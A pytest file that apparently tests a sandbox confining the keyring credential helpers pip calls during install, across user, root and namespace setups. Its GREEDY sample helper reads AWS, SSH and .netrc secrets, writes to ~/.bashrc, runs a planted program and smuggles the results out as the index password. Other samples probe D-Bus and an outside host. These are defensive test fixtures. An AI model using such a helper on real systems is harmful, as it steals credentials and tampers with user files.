"""Programs that pip asks for passwords, in the role `credential`: the user's own works, and reaches nothing but its own store; one of the environment gets none."""
from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import pytest

from conftest import cannot
from lib import bus, keyrings, sweeps
from lib.world import CANARY

LOGIN, PASSWORD = "ann", "kR1ng0canary7of9the5store3"
WAYS = [("root", ""), ("user", ""), ("root", "namespaces"), ("user", "namespaces")]
ways = pytest.mark.parametrize("way", WAYS, ids=lambda w: f"{w[0]}-{w[1] or 'nothing'}")


@pytest.fixture(scope="module")
def swept(base):
    with sweeps.served(base / "keyring-swept", LOGIN, PASSWORD) as index:
        yield index


def ask(index, folder, world, **more) -> dict[str, str]:
    """pip finds the login's name in the URL and asks the keyring on PATH for its password."""
    return {"PIP_INDEX_URL": f"http://{LOGIN}@{index.host}:{index.port}/simple", "PIP_KEYRING_PROVIDER": "subprocess",
            "PATH": f"{world.venv}/bin:{folder}:/usr/bin:/bin", **more}


def logged_in(index) -> bool:
    return f"{LOGIN}:{PASSWORD}" in index.logins


KEYRINGS = [(keyrings.plain, "root", "", "distribution"), (keyrings.plain, "user", "", "3.13"), (keyrings.plain, "root", "namespaces", "3.13"),
            (keyrings.pipx, "root", "", "3.13"), (keyrings.pipx, "user", "", "distribution"), (keyrings.pipx, "user", "namespaces", "distribution")]


@pytest.mark.parametrize("form,name,hide,version", KEYRINGS, ids=lambda v: getattr(v, "__name__", v or "nothing"))
def test_keyring(form, name, hide, version, make_world, user_named, templates, all_pythons, swept):
    if version not in all_pythons:
        pytest.skip(f"there is no CPython {version} here")
    world, python = make_world(user_named(name), hide=hide), all_pythons[version]
    folder, store = form(world), keyrings.store(world, LOGIN, PASSWORD)
    for guarded in [False, True] if (name, hide) == ("user", "") else [True]:
        world.use_venv(templates, python)
        swept.forget()
        env = ask(swept, folder, world, PWT_PLACES=str(store))
        result = (world.guarded if guarded else world.run)(["pip", "install", "pwsweep"], env)
        assert result.status in ((0, 100) if guarded else (0,)) and logged_in(swept), str(result)
        found = sweeps.found(world.site_packages())
        if guarded:
            assert PASSWORD.encode() not in found and PASSWORD not in result.journal.read_text()
            assert [e for e in result.above("info") if e["role"] != "build"] == [], str(result)
            assert [e for e in result.of_type("file.open") if e["target"].get("path") == str(store)], "the build's look into the store is not recorded"
        else:
            assert PASSWORD.encode() in found, "the sweep finds nothing where nobody is guarded"


def in_the_environment(world):
    """A link to what a package installed."""
    (world.home / "bin").mkdir(exist_ok=True)
    (world.home / "bin/keyring").unlink(missing_ok=True)
    (world.home / "bin/keyring").symlink_to(keyrings.program(world, world.venv / "bin/keyring", world.venv / "bin/python3"))
    world.own_tree(world.home / "bin")
    return world.home / "bin"


def beside_it(world):
    return keyrings.program(world, world.venv / "tools/keyring").parent


def by_its_python(world):
    return keyrings.program(world, world.home / "tools/keyring", world.venv / "bin/python3").parent


def of_a_project(world):
    return keyrings.program(world, world.work / "bin/keyring").parent


@pytest.mark.parametrize("where", [in_the_environment, beside_it, by_its_python, of_a_project], ids=lambda f: f.__name__)
def test_one_of_the_environment_gets_no_password(where, make_world, user, templates, distribution, swept):
    world = make_world(user)
    keyrings.store(world, LOGIN, PASSWORD)
    for guarded in (False, True):
        world.use_venv(templates, distribution)
        folder = where(world)
        swept.forget()
        result = (world.guarded if guarded else world.run)(["pip", "install", "pwpure"], ask(swept, folder, world))
        assert logged_in(swept) == (not guarded) == (result.status == 0), str(result)
    refused = {os.path.realpath(e["target"]["path"]) for e in result.events if e.get("rule") == "exec.credential"}
    assert refused == {os.path.realpath(folder / "keyring")}, str(result)


# What else it could want, to be told as the password: the index is the sink.
GREEDY = """
import socket, subprocess
told = []
for path in (".aws/credentials", ".ssh/id_ed25519", ".netrc"):
    try:
        told.append(open(os.path.expanduser("~/" + path)).read().replace("\\n", " "))
    except OSError as e:
        told.append(str(e.errno))
try:
    socket.create_connection(("127.0.0.1", {port}), 3).send(b"hello")
    told.append("connected")
except OSError as e:
    told.append(str(e.errno))
for path in ("~/planted", "~/.bashrc", "~/.local/share/python_keyring/keyring_pass.cfg", "~/tools/keyring"):
    try:
        open(os.path.expanduser(path), "a").write("# changed\\n")
    except OSError as e:
        told.append(str(e.errno))
try:
    told.append(subprocess.run([os.path.expanduser("~/planted-program")], stdout=subprocess.PIPE).stdout.decode())
except OSError as e:
    told.append(str(e.errno))
print(" ".join(told))
sys.exit(0)
"""


def serve(listener: socket.socket, each) -> None:
    """each(connection) for whoever comes, until the listener is closed."""
    def work():
        try:
            while True:
                connection, _ = listener.accept()
                with connection:
                    each(connection)
        except OSError:
            pass
    threading.Thread(target=work, daemon=True).start()


class Listener:
    """What comes to a port of the machine's loopback."""

    def __enter__(self):
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.came = self._socket.getsockname()[1], []
        serve(self._socket, lambda connection: self.came.append(connection.recv(100)))
        return self

    def __exit__(self, *exc):
        self._socket.close()


@ways
def test_a_greedy_helper(way, make_world, user_named, templates, distribution, swept):
    world = make_world(user_named(way[0]), hide=way[1])
    world.use_venv(templates, distribution)
    for guarded in (True, False):
        world.plant_canaries()
        world.write(world.home / ".netrc", f"machine x login y password {CANARY}\n")
        world.write(world.home / "planted-program", "#!/bin/sh\necho it has run\n", 0o755)
        store = keyrings.store(world, LOGIN, PASSWORD)
        swept.forget()
        with Listener() as listener:
            program = keyrings.program(world, world.home / "tools/keyring", more=GREEDY.format(port=listener.port))
            before = {p: p.read_bytes() for p in (program, store, world.home / ".bashrc")}
            result = (world.guarded if guarded else world.run)(["pip", "install", "pwpure"], ask(swept, program.parent, world),
                                                               **({"options": ["--on-violation", "deny"]} if guarded else {}))
        told = "".join(swept.logins)
        effects = {"keys": CANARY in told, "network": bool(listener.came) or "connected" in told, "program": "it has run" in told,
                   "writes": (world.home / "planted").exists(), "changes": any(p.read_bytes() != c for p, c in before.items())}
        assert set(effects.values()) == {not guarded}, f"{effects}\n{result}"
        if guarded:
            recorded = [(e["type"], e["target"].get("path", "").replace(str(world.home), "~")) for e in result.events if e.get("role") == "credential"]
            for one in [("file.open", "~/.aws/credentials"), ("file.open", "~/.ssh/id_ed25519"), ("file.open", "~/.netrc"), ("file.write", "~/planted"),
                        ("file.write", "~/.bashrc"), ("file.write", "~/.local/share/python_keyring/keyring_pass.cfg"), ("exec", "~/planted-program")]:
                assert one in recorded, f"{one}\n{recorded}"
            assert [e for e in result.of_type("net.connect") if e["role"] == "credential"], str(result)


AGENT = """
import socket
agent = socket.socket(socket.AF_UNIX)
try:
    agent.connect(os.environ["PWT_AGENT"])
    print(agent.recv(100).decode())
    sys.exit(0)
except OSError:
    pass  # then the store, as keyring goes through its back ends
"""


class Agent:
    """Tells the password to who connects, where a message bus could be."""

    def __init__(self, world):
        self.folder = Path(tempfile.mkdtemp(prefix="dbus-", dir="/tmp"))
        self.path = self.folder / "bus"
        self._socket, self._world = socket.socket(socket.AF_UNIX), world

    def __enter__(self):
        self._socket.bind(str(self.path))
        self._socket.listen(8)
        self._world.own(self.path)
        self._world.own(self.folder)
        serve(self._socket, lambda connection: connection.sendall(PASSWORD.encode()))
        return self

    def __exit__(self, *exc):
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        shutil.rmtree(self.folder)


@ways
def test_its_agent(way, make_world, user_named, templates, distribution, swept):
    """A socket is reached when it is named, and not otherwise; that it was tried is no violation that would fail the run."""
    world = make_world(user_named(way[0]), hide=way[1])
    world.use_venv(templates, distribution)
    folder = keyrings.program(world, world.home / "tools/keyring", more=AGENT).parent
    for store in (False, True):
        if store:
            keyrings.store(world, LOGIN, PASSWORD)
        with Agent(world) as agent:
            for allowed in (False, True):
                swept.forget()
                result = world.guarded(["pip", "install", "--force-reinstall", "pwpure"], ask(swept, folder, world, PWT_AGENT=str(agent.path)),
                                       options=["--allow-read", f"credential:{agent.path}"] if allowed else [])
                assert logged_in(swept) == (allowed or store) == (result.status == 0), str(result)
                tried = [(e["rule"], e["severity"]) for e in result.of_type("ipc.connect") if e["target"].get("path") == str(agent.path)]
                assert set(tried) == (set() if allowed else {("net.unix.helper", "low")}), str(result)


# Asks the key store, then for more; what it hears is told as the password.
KEY_STORE = bus.PARTY + """
party = Party(os.environ["DBUS_SESSION_BUS_ADDRESS"].partition("=")[2])
told = [str(party.call("org.freedesktop.secrets", "org.freedesktop.Secret.Item", "GetSecret"))]
for to, interface, member in {more}:
    try:
        told.append(str(party.call(to, interface, member)))
    except (OSError, EOFError):
        told.append("hung up")
    told.append(str(party.call("org.freedesktop.secrets", "org.freedesktop.Secret.Item", "GetSecret")))
print(" ".join(told))
sys.exit(0)
"""
STARTER = ("org.pwtest.Starter", "org.freedesktop.systemd1.Manager", "StartTransientUnit")
WRITE = ("org.freedesktop.secrets", "org.freedesktop.Secret.Item", "SetSecret")


@ways
def test_the_desktops_key_store(way, make_world, user_named, templates, distribution, swept):
    """Over the session's message bus: it is asked for passwords, and nobody else there for anything."""
    if not bus.is_there():
        cannot("there is no dbus-daemon here")
    world = make_world(user_named(way[0]), hide=way[1])
    folder = world.home / "tools"
    with bus.Bus(world) as session:
        store, starter = session.serve("org.freedesktop.secrets", PASSWORD), session.serve("org.pwtest.Starter", "has been started")
        for more in ([], [STARTER], [WRITE]):
            keyrings.program(world, folder / "keyring", more=KEY_STORE.replace("{more}", repr(more)))
            for guarded in ([True] if way[1] or not more else [False, True]):
                world.use_venv(templates, distribution)
                swept.forget(), store.write_text(""), starter.write_text("")
                result = (world.guarded if guarded else world.run)(["pip", "install", "pwpure"], ask(swept, folder, world, DBUS_SESSION_BUS_ADDRESS=session.address))
                calls = store.read_text().split() + starter.read_text().split()
                assert calls.count("GetSecret") % (1 + len(more)) == 0 and "GetSecret" in calls and ({m for _, _, m in more} <= set(calls)) == (not guarded or not more), f"{calls}\n{result}"
                if not more:
                    assert result.status == 0 and logged_in(swept) and result.above("info") == [], str(result)
                elif guarded:
                    assert [e["target"]["name"] for e in result.events if e.get("rule") == "net.unix.bus"][:1] == ["%s %s.%s" % more[0]], str(result)


SERVICE = """
import socket
try:
    service = socket.create_connection(("vault.test", 80), 5)
    service.sendall(b"GET / HTTP/1.1\\r\\nHost: vault.test\\r\\n\\r\\n")
    if b"200 OK" in service.recv(100):
        print("{password}")
        sys.exit(0)
except OSError:
    pass
"""


@pytest.mark.parametrize("hide", ["", "namespaces"], ids=lambda h: h or "nothing")
def test_a_host_for_a_helper(hide, make_world, user_named, templates, distribution, net):
    """A service that knows the password, by name: with the option alone."""
    world = make_world(user_named("user"), net=net, hide=hide)
    folder = keyrings.program(world, world.home / "tools/keyring", more=SERVICE.format(password=PASSWORD)).parent
    net.dns.addresses["vault.test"] = ["203.0.113.10"]
    net.index.ask_for(LOGIN, PASSWORD)
    try:
        for allowed in (False, True):
            world.use_venv(templates, distribution)
            net.index.forget()
            result = world.guarded(["pip", "install", "pwpure"], ask(net.index, folder, world, PIP_INDEX_URL=net.index_url.replace("//", f"//{LOGIN}@")),
                                   options=["--allow-host", "credential:vault.test"] if allowed else [])
            assert logged_in(net.index) == allowed == (result.status == 0), str(result)
            assert bool(net.sink.streams) == allowed and ("vault.test" in net.dns.names) == allowed
    finally:
        net.index.ask_for(None)


def test_under_audit_nothing_is_refused(make_world, user_named, templates, distribution, swept):
    world = make_world(user_named("user"))
    keyrings.store(world, LOGIN, PASSWORD)
    for where in (keyrings.plain, by_its_python):
        world.use_venv(templates, distribution)
        swept.forget()
        result = world.guarded(["pip", "install", "pwpure"], ask(swept, where(world), world), options=["--audit"])
        assert result.status == 0 and logged_in(swept), str(result)
    assert [e["action"] for e in result.events if e.get("rule") == "exec.credential"][:1] == ["observed"], str(result)


def test_import_goes_over_to_the_program(make_world, user_named, templates, all_pythons, swept):
    """pip would import what the environment calls keyring: the program is asked instead, and it is said."""
    if "3.13" not in all_pythons:
        pytest.skip("there is no CPython 3.13 here")  # whose pip has the option
    world = make_world(user_named("user"))
    folder, python = keyrings.plain(world), all_pythons["3.13"]
    keyrings.store(world, LOGIN, PASSWORD)
    for argv, env in ((["--keyring-provider", "import"], {}), ([], {"PIP_KEYRING_PROVIDER": "import"})):
        world.use_venv(templates, python)
        world.write(world.site_packages() / "keyring.py", "open('/dev/tty', 'w').write('never')\n", 0o644)
        swept.forget()
        result = world.guarded(["pip", "install", *argv, "pwpure"], ask(swept, folder, world, **env))
        assert result.status == 0 and logged_in(swept), str(result)
        assert "--keyring-provider subprocess" in result.err
